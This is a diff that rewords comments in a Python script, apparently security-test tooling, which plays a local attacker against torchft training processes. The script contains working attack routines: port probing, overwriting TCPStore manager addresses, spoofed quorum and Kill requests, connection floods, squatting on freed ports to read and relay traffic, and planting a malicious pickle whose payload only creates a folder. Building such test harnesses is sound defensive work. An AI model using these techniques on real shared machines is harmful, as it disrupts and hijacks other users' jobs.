@@ -1,7 +1,7 @@
-"""Another user of this machine, who wants in. A process of its own: `python stranger.py UID ATTACK ARGUMENTS_AS_JSON`.
+"""An attacker, another user of this machine, as a process: `python stranger.py UID ATTACK ARGUMENTS_AS_JSON`.
 
-It is started as root, imports all it needs, for it may not be allowed to read that later, and then becomes another
-user for good. What came of the attack is printed as one line of JSON.
+It starts as root, imports all it needs, because it may not be able to read that later, and then becomes another user
+for good. It prints the result of the attack as one line of JSON.
 """
 
 from __future__ import annotations
@@ -29,7 +29,7 @@ from urllib.parse import urlsplit
 import http2
 import ports
 
-PATIENCE_S = 3.0  # for an answer: what is to be shut is shut at once, and what expects a password within a second
+PATIENCE_S = 3.0  # for an answer: closed ports close at once, ports that ask for a password within a second
 QUORUM, HEARTBEAT = "/torchft.LighthouseService/Quorum", "/torchft.LighthouseService/Heartbeat"
 KILL = "/torchft.ManagerService/Kill"
 STORE_HELLO = b"\0" + (0x3C85F7CE).to_bytes(4, "little") + b"\x07"  # torch's TCPStore: validate, number of keys
@@ -53,7 +53,7 @@ def become(uid: int) -> None:
     os.setresuid(uid, uid, uid)
     os.environ.update(HOME="/tmp", USER="stranger", LOGNAME="stranger")
     os.chdir("/")
-    os.nice(10)  # he takes what the ports give him, not the processors
+    os.nice(10)  # the attack is on the ports, not on the CPUs
     try:
         os.setuid(0)
     except PermissionError:
@@ -62,7 +62,7 @@ def become(uid: int) -> None:
 
 
 class Payload:
-    """Who unpickles this makes a folder of its own in this one."""
+    """An object whose unpickling makes a new folder in `folder`."""
 
     def __init__(self, folder: str) -> None:
         self.folder = folder
@@ -72,7 +72,7 @@ class Payload:
 
 
 def in_threads(tasks: dict[Any, Callable[[], Any]], patience_s: float) -> dict[Any, Any]:
-    """What each of them returned; those that hang or raise are left out."""
+    """Run tasks in threads; return their results, without those that hang or raise."""
     results: dict[Any, Any] = {}
 
     def run(name: Any, task: Callable[[], Any]) -> None:
@@ -92,20 +92,20 @@ def in_threads(tasks: dict[Any, Callable[[], Any]], patience_s: float) -> dict[A
 
 
 def look(only: list[int] | None = None) -> list[dict[str, object]]:
-    """Say all that one might say first, at every port, and see who answers."""
+    """Send every opening to every port; return the answers."""
     return [answer.as_json() for answer in ports.knock_everywhere(OPENINGS, PATIENCE_S, only)]
 
 
 def open_ports(only: Iterable[int] | None) -> list[int]:
-    """The ports to try: these, or all that somebody listens on."""
+    """Return the ports to try: these, or (None) all listening ports."""
     return sorted(only if only is not None else {listener.port for listener in ports.listeners()})
 
 
 def read_stores(only: list[int] | None = None, spoil: bool = False) -> dict[int, dict[str, str]]:
-    """Ask every port, as a TCPStore of torch, where the manager of its group is.
+    """Ask every port for the manager's address, as a client of torch's TCPStore.
 
     Args:
-        spoil: where there is an answer, say that the manager is elsewhere.
+        spoil: overwrite the manager's address where there is an answer.
     """
 
     def read(port: int) -> dict[str, str]:
@@ -120,7 +120,7 @@ def read_stores(only: list[int] | None = None, spoil: bool = False) -> dict[int,
 
 
 def join(step: int, folder: str, seconds: float = 8.0, only: list[int] | None = None) -> dict[str, Any]:
-    """Take part in the training with a manager of torchft's, unchanged, that claims to be at this step.
+    """Join the training with an unchanged manager of torchft that claims to be at this step.
 
     Returns:
         stores: what was read in the groups' stores; quorums: those it was in; received: what it was sent of the
@@ -201,9 +201,9 @@ def guess(step: int, seconds: float = 6.0, only: list[int] | None = None) -> dic
 
 
 def kill(only: list[int] | None = None) -> dict[int, str]:
-    """Tell every port to end its process, as torchft's managers do when one asks; what they answered.
+    """Send every port torchft's request to end its process; return the answers.
 
-    Once properly, and before that with all said at once, and hung up.
+    Sent twice: first all at once on connections that close at once, then as a proper call.
     """
     reason = b"\x0a\x08stranger"
     _blurt([http2.HELLO + http2.call(1, KILL, reason)] * 5, only)
@@ -217,17 +217,17 @@ def kill(only: list[int] | None = None) -> dict[int, str]:
 
 
 def say_and_hang_up(step: int, only: list[int] | None = None) -> int:
-    """Ask for a quorum at that step with every guessed store, and hang up; how many requests were sent."""
+    """Ask for a quorum at this step with every guessed store, and close at once; return the number of requests sent."""
     stores = [f"127.0.0.1:{port}" for port in open_ports(only)]
     members = [Member(f"toy_0:{uuid.uuid4()}", "http://127.0.0.1:9", store, step=step) for store in stores]
     return _blurt([http2.HELLO + http2.call(1, QUORUM, protobuf.write_request(member)) for member in members], only)
 
 
 def _blurt(words: list[bytes], only: list[int] | None) -> int:
-    """Say each of these at every port, on a connection of its own, and be gone before anybody can look who has called.
+    """Send each of these to every port on a new connection, and close before the other side can look up the caller.
 
-    Whose connection it is cannot be told any more by then: the kernel shows an end that was closed as root's. Returns
-    how many times that could be said.
+    The owner of the connection is then unknown: the kernel shows a closed end as root's. Return the number of texts
+    sent.
     """
 
     def say(listener: ports.Listener, family: socket.AddressFamily, host: str) -> int:
@@ -259,7 +259,7 @@ def _heartbeat(n: int) -> bytes:
     return http2.call(2 * n + 1, HEARTBEAT, protobuf.write_heartbeat(f"toy_{n}:{uuid.uuid4()}"))
 
 
-FLOODS: dict[str, tuple[bytes, Callable[[int], bytes] | None]] = {  # what is said first, and again and again
+FLOODS: dict[str, tuple[bytes, Callable[[int], bytes] | None]] = {  # the first bytes, and those sent repeatedly
     "idle connections": (b"", None),
     "connections with a preface": (http2.HELLO, None),
     "streams": (http2.HELLO, _stream),
@@ -269,7 +269,7 @@ FLOODS: dict[str, tuple[bytes, Callable[[int], bytes] | None]] = {  # what is sa
 
 
 class Flood:
-    """Very many connections to some ports, opened anew whenever they are closed."""
+    """Very many connections to some ports, reopened whenever they are closed."""
 
     def __init__(self, kind: str, targets: list[tuple[socket.AddressFamily, str, int]], connections: int) -> None:
         self.opening, self.more = FLOODS[kind]
@@ -279,7 +279,7 @@ class Flood:
         self.counts = {"opened": 0, "closed": 0, "bytes": 0}
 
     def run(self, seconds: float) -> dict[str, int]:
-        """Go on for so long; how many connections were opened, how many the others closed, how much was said."""
+        """Flood for some seconds; count the connections opened, those closed by the other side, and the bytes sent."""
         end = time.monotonic() + seconds
         while time.monotonic() < end:
             for _ in range(min(50, self.connections - len(self.selector.get_map()))):
@@ -319,7 +319,7 @@ class Flood:
 
 
 def flood(kind: str, seconds: float, connections: int, only: list[int]) -> dict[str, int]:
-    """Fill these ports with connections of a kind; see FLOODS."""
+    """Flood these ports with connections of a kind; see FLOODS."""
     targets = [
         (*way, listener.port) for listener in ports.listeners() if listener.port in only for way in listener.ways()
     ]
@@ -327,11 +327,11 @@ def flood(kind: str, seconds: float, connections: int, only: list[int]) -> dict[
     return Flood(kind, targets, connections).run(seconds)
 
 
-# --- the places of the dead ----------------------------------------------------------------------------------------
+# --- ports of ended processes --------------------------------------------------------------------------------------
 
 
 class Squatter:
-    """Takes ports as soon as they are free, and listens to who calls the one that was there before."""
+    """Takes ports as soon as they are free, and reads the connections meant for the previous owner."""
 
     def __init__(self, wanted: list[int], folder: str) -> None:
         self.wanted = set(wanted)
@@ -343,7 +343,7 @@ class Squatter:
         self.listeners: list[socket.socket] = []
 
     def run(self, seconds: float) -> dict[str, object]:
-        """Take, listen, answer for so long; which ports it got, and what was said at each call."""
+        """Take ports and answer for some seconds; return the ports taken and the bytes of each call."""
         end = time.monotonic() + seconds
         while time.monotonic() < end:
             for port in list(self.wanted):
@@ -371,7 +371,7 @@ class Squatter:
             threading.Thread(target=self._answer, args=(port, sock), daemon=True).start()
 
     def _answer(self, port: int, sock: socket.socket) -> None:
-        """Wait until they speak; else greet them as whoever greets us does, and pass on what they answer to that."""
+        """Read from the caller; if it is silent, relay a live gate's greeting to it, and its answer to the gate."""
         real, greeting = None, b""
         with sock:
             said = _read(sock, 0.2)
@@ -402,7 +402,7 @@ def _read(sock: socket.socket, seconds: float) -> bytes:
 
 
 def _greeted(candidates: set[int]) -> tuple[socket.socket | None, bytes]:
-    """A connection to somebody who speaks first, and what was said."""
+    """Return a connection to a server that speaks first, and its greeting."""
 
     def connect(port: int) -> tuple[socket.socket, bytes]:
         sock = socket.create_connection(("127.0.0.1", port), 0.3)
@@ -417,7 +417,7 @@ def _greeted(candidates: set[int]) -> tuple[socket.socket | None, bytes]:
 
 
 def squat(wanted: list[int], folder: str, seconds: float) -> dict[str, object]:
-    """Take the places of those who are about to die, and serve in their stead."""
+    """Take the ports of processes that are about to die, and serve there."""
     squatter = Squatter(wanted, folder)
     print("ready", flush=True)
     return squatter.run(seconds)
@@ -427,10 +427,10 @@ def squat(wanted: list[int], folder: str, seconds: float) -> dict[str, object]:
 
 
 def plant(run: str, files: dict[str, str], folder: str, pipes: list[str]) -> list[str]:
-    """Put a run directory of our own in the place of one whose parent we may write to; what lies there then.
+    """Replace a run directory in a folder that we may write to by our own; return its entries.
 
     Args:
-        files: what is written, by its path in the run directory; "PAYLOAD" is a pickle that is no good to load.
+        files: path in the run directory -> text; "PAYLOAD" stands for a harmful pickle.
         pipes: the paths of named pipes.
     """
     if os.path.exists(run):
